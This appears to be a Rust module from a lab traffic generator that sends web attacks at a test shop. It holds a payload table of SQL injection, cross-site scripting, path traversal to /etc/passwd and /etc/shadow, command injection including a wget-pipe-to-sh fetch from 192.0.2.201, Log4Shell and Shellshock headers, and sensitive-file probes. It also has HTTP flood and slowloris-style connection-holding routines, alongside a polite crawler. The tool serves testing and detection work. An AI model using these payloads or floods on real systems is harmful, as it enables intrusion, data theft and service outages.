//! The web: attacks of every common kind against the lab's shop, and a crawler that behaves.

use super::actor::{Actor, Line};
use super::{Kind, Parameter, parameter};
use crate::traffic::{Pace, TrafficError, http};
use std::collections::{BTreeSet, VecDeque};
use std::io::{self, BufReader, Write};
use std::time::Duration;

pub(super) const ATTACK: &[Parameter] = &[
    parameter::SOURCE,
    parameter::TARGET,
    parameter::port("80"),
    Parameter::new(
        "kind",
        Kind::Choice(&["all", "sql", "script", "path", "command", "header", "probe"]),
        "which attacks",
    )
    .or("all"),
    parameter::count(5000, "60", "requests"),
    parameter::rate(200, "10"),
    parameter::seconds("15"),
];

pub(super) const FLOOD: &[Parameter] = &[
    parameter::SOURCE,
    parameter::TARGET,
    parameter::port("80"),
    Parameter::new("connections", Kind::Number(1, 64), "connections at once").or("8"),
    parameter::count(200_000, "6000", "requests"),
    parameter::rate(5000, "400"),
    parameter::seconds("15"),
];

pub(super) const CRAWL: &[Parameter] = &[
    parameter::SOURCE,
    parameter::TARGET,
    parameter::port("80"),
    parameter::count(2000, "60", "pages"),
    parameter::rate(50, "5"),
    parameter::seconds("15"),
];

/// Attacks: kind, target of the request (percent-encoded), and header lines with their ends.
const ATTACKS: &[(&str, &str, &str)] = &[
    ("sql", "/product?id=1%27", ""),
    ("sql", "/product?id=1%27%20OR%20%271%27=%271", ""),
    ("sql", "/product?id=1%20AND%201=1--%20-", ""),
    ("sql", "/product?id=-1%20UNION%20ALL%20SELECT%201,name,password,4%20FROM%20users", ""),
    ("sql", "/product?id=1;%20DROP%20TABLE%20users--", ""),
    ("sql", "/product?id=1%20AND%20SLEEP(5)", ""),
    ("sql", "/product?id=1%20ORDER%20BY%2010--", ""),
    ("sql", "/product?id=1/**/uNiOn/**/sElEcT/**/1,2,3,4", ""),
    ("script", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
    ("script", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", ""),
    ("script", "/search?q=%3Csvg/onload=alert(1)%3E", ""),
    ("script", "/search?q=javascript:alert(1)", ""),
    ("path", "/files?name=../../../../etc/passwd", ""),
    ("path", "/files?name=..%2f..%2f..%2fetc%2fpasswd", ""),
    ("path", "/files?name=....//....//etc/passwd%00.txt", ""),
    ("path", "/files?name=..%5c..%5cwindows%5cwin.ini", ""),
    ("path", "/files?name=php://filter/convert.base64-encode/resource=index.php", ""),
    ("path", "/..%2f..%2f..%2fetc%2fshadow", ""),
    ("command", "/ping?host=192.0.2.1;id", ""),
    ("command", "/ping?host=192.0.2.1%7Cwhoami", ""),
    ("command", "/ping?host=%60id%60", ""),
    ("command", "/ping?host=$(cat%20/etc/passwd)", ""),
    ("command", "/ping?host=192.0.2.1%26%26uname%20-a", ""),
    ("command", "/ping?host=;wget%20http://192.0.2.201/x.sh%20-O-%7Csh", ""),
    ("header", "/", "X-Api-Version: ${jndi:ldap://192.0.2.201:1389/a}\r\n"),
    ("header", "/", "X-Request: () { :;}; /bin/bash -c 'id'\r\n"),
    ("header", "/", "Cookie: session=O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}\r\n"),
    ("header", "/", "X-Forwarded-For: 127.0.0.1' OR '1'='1\r\n"),
    ("header", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", ""),
    ("probe", "/.env", ""),
    ("probe", "/.git/config", ""),
    ("probe", "/wp-login.php", ""),
    ("probe", "/phpmyadmin/index.php", ""),
    ("probe", "/cgi-bin/test.cgi", ""),
    ("probe", "/actuator/env", ""),
    ("probe", "/server-status", ""),
    ("probe", "/backup.sql", ""),
    ("probe", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""),
];

/// A connection that is opened when it is needed and again when it broke.
struct Browser<'a> {
    actor: &'a Actor<'a>,
    line: Option<BufReader<Line<'a>>>,
}

impl<'a> Browser<'a> {
    const fn new(actor: &'a Actor<'a>) -> Self {
        Self { actor, line: None }
    }

    fn get(&mut self, target: &str, fields: &str) -> io::Result<http::Answer> {
        let mut line = match self.line.take() {
            Some(line) => line,
            None => BufReader::with_capacity(
                http::KEPT,
                self.actor.connect(self.actor.source(), self.actor.target())?,
            ),
        };
        http::send(line.get_mut(), "GET", target, fields)?;
        let answer = http::receive(&mut line)?;
        self.line = Some(line);
        Ok(answer)
    }
}

pub(super) fn attack(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let mut pace = actor.pace()?;
    let kind = actor.values.word("kind");
    let attacks: Vec<_> = ATTACKS.iter().filter(|(k, ..)| kind == "all" || *k == kind).collect();
    let mut browser = Browser::new(actor);
    while let Some(n) = pace.next() {
        let Some((_, target, fields)) = attacks.get(usize::try_from(n).unwrap_or(0) % attacks.len().max(1))
        else {
            break;
        };
        // An attack that is answered with an error was made all the same.
        let _ = actor.attempt(|| browser.get(target, fields));
    }
    Ok(())
}

/// Asks for the same page again and again over a few connections, together at the rate asked for.
pub(super) fn flood(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let parts = actor.values.number("connections");
    let limits = actor.limits()?.part(parts)?;
    actor.together(parts, |_| {
        let mut browser = Browser::new(actor);
        let mut pace = Pace::new(limits, actor.control());
        while pace.next().is_some() {
            let _ = actor.attempt(|| browser.get("/", ""));
        }
    })
}

/// Reads robots.txt, then follows links it does not forbid, each page once, no faster than its delay allows where the rate
/// asked for is higher.
pub(super) fn crawl(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let mut browser = Browser::new(actor);
    let mut pace = actor.pace()?;
    let rules = actor.attempt(|| browser.get("/robots.txt", "")).map(|a| a.body).unwrap_or_default();
    let rules = String::from_utf8_lossy(&rules).into_owned();
    let forbidden: Vec<&str> = rules.lines().filter_map(|l| l.strip_prefix("Disallow: ")).collect();
    let (mut known, mut queue) = (BTreeSet::new(), VecDeque::from(["/".to_owned()]));
    let mut round = 0;
    while pace.next().is_some() {
        let Some(page) = queue.pop_front() else {
            // All is read: from the beginning, for what is new.
            round += 1;
            known.clear();
            queue.push_back("/".to_owned());
            if round > 20 || !actor.sleep(Duration::from_millis(200)) {
                break;
            }
            continue;
        };
        let Some(answer) = actor.attempt(|| browser.get(&page, "")) else { continue };
        let text = String::from_utf8_lossy(&answer.body).into_owned();
        for link in text.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next()) {
            let allowed = !forbidden.iter().any(|f| link.starts_with(f));
            if allowed && link.starts_with('/') && known.len() < 2000 && known.insert(link.to_owned()) {
                queue.push_back(link.to_owned());
            }
        }
    }
    Ok(())
}

pub(super) const SLOW: &[Parameter] = &[
    parameter::SOURCE,
    parameter::TARGET,
    parameter::port("80"),
    Parameter::new(
        "kind",
        Kind::Choice(&["head", "body", "read"]),
        "a head that never ends, a body that comes byte by byte, or an answer that is hardly taken",
    )
    .or("head"),
    Parameter::new("connections", Kind::Number(1, 400), "connections held open").or("60"),
    Parameter::new("pause_ms", Kind::Number(100, 30_000), "pause between two pieces, ms").or("2000"),
    parameter::seconds("20"),
];

/// Receive buffer of connections that hardly read, bytes: the kernel makes a window of about half of it.
const TINY_BUFFER: usize = 2304;

/// Opens connections, and then goes round giving each a little.
pub(super) fn slow(actor: &Actor<'_>) -> Result<(), TrafficError> {
    let kind = actor.values.word("kind").to_owned();
    let pause = Duration::from_millis(actor.values.number("pause_ms"));
    let begin = |line: &mut Line<'_>| match kind.as_str() {
        "body" => http::send(line, "POST", "/login", "Content-Length: 60000\r\nContent-Type: text/plain\r\n"),
        "read" => http::send(line, "GET", "/downloads/8000000", ""),
        _ => line.write_all(b"GET / HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: lab/1.0\r\n"),
    };
    let mut open = Vec::new();
    for _ in 0..actor.values.number("connections") {
        if actor.is_over() {
            break;
        }
        let buffer = (kind == "read").then_some(TINY_BUFFER);
        let opened = actor.attempt(|| {
            let mut line = actor.connect_with(actor.source(), actor.target(), buffer)?;
            begin(&mut line)?;
            line.stream.set_nonblocking(true)?;
            Ok(line)
        });
        open.extend(opened);
        if !actor.sleep(Duration::from_millis(20)) {
            break;
        }
    }
    let mut turn = 0_u64;
    while actor.sleep(pause) && !open.is_empty() {
        turn += 1;
        // A connection that the server has closed is given up.
        open.retain_mut(|line| match kind.as_str() {
            "body" => line.write_all(b"x").is_ok(),
            "read" => take_little(line),
            _ => line.write_all(format!("X-Header-{turn}: {turn}\r\n").as_bytes()).is_ok(),
        });
    }
    Ok(())
}

/// Reads a few bytes; says whether the connection is still open.
fn take_little(line: &mut Line<'_>) -> bool {
    let mut buffer = [0; 16];
    match io::Read::read(line, &mut buffer) {
        Ok(n) => n > 0,
        Err(e) => e.kind() == io::ErrorKind::WouldBlock,
    }
}
